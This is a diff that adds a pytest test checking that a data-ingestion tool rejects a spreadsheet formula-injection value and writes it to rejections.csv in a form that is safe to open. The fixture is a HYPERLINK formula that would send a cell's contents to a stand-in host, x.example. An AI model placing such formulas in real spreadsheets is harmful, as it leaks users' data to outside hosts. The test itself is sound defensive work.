@@ -547,6 +547,17 @@ def test_write_then_read_gives_back_the_same_tables(tmp_path):
     assert again.register.loc[0, "purposes"] == [ARTS]
 
 
+def test_a_rejected_formula_is_written_safe_to_open_and_read_back_as_it_came(tmp_path):
+    formula = '=HYPERLINK("http://x.example/?"&A1,"Click for details")'
+    folder = _folder(tmp_path, returns=[["SC000001", "31/03/2020", "1/1/2021", formula, "1"]])
+    result = ingest_folder(folder)
+    assert formula in result.rejections["value"].tolist()
+    write_ingested(result, tmp_path / "out")
+    cells = pd.read_csv(tmp_path / "out" / "rejections.csv", dtype=str, keep_default_na=False).to_numpy().ravel()
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+    pd.testing.assert_frame_equal(read_ingested(tmp_path / "out").rejections, result.rejections)
+
+
 def test_fingerprint_ignores_column_order_but_sees_a_changed_value(tmp_path):
     register = ingest_folder(_folder(tmp_path)).register
     assert table_fingerprint(register) == table_fingerprint(register[register.columns[::-1]])
